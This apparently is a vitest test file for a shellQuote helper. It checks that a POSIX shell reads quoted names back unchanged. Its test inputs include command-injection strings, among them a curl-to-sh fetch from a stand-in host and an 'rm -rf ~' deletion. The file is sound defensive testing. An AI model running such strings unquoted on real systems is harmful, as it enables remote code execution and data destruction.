// Shell quoting: whatever a name holds, a POSIX shell reads the quoted word back as exactly that text and runs nothing.
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { shellQuote } from '../../src/lib/shell-quote.ts';

const hostile = ['$(touch pwned)', '`id`', '"; curl evil | sh; "', "it's", "'; rm -rf ~; '", 'a b', '*', '~', '!', '', 'x\ny', '$HOME', 'a;b&c|d>e<f'];

describe('shellQuote', () => {
  it('keeps plain words bare', () => {
    expect(shellQuote('ops/rotate-database-passwords')).toBe('ops/rotate-database-passwords');
    expect(shellQuote('content/ops/a_b.md')).toBe('content/ops/a_b.md');
  });

  it.each(hostile)('the shell reads %j back unchanged', (word) => {
    const printed = execFileSync('sh', ['-c', `printf '%s' ${shellQuote(word)}`], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '', HOME: '/nonexistent' } });
    expect(printed).toBe(word);
  });
});
